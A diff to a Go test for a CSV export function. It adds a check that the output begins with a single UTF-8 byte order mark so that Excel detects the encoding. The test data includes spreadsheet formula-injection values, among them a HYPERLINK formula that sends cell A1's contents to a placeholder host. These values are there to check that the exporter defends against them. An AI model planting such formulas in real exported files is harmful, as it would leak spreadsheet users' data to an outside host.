@@ -158,7 +158,11 @@ func TestListCSV(t *testing.T) {
 	of.Rows[0].Customer, of.Rows[0].DRI.Name = "=HYPERLINK(\"https://x.example/?\"&A1,\"x\")", "@SUM(1)\n=2"
 	text := printed(t, func(w io.Writer) error { return viewprint.ListCSV(w, of) })
 	golden(t, "list.csv", text)
-	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	rest, marked := strings.CutPrefix(text, "\xEF\xBB\xBF")
+	if !marked || strings.Contains(rest, "\uFEFF") {
+		t.Error("it does not begin with the one byte order mark by which Excel knows UTF-8")
+	}
+	all, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
 	if err != nil || len(all) != 1+6+1 {
 		t.Fatalf("%d lines: %v", len(all), err)
 	}
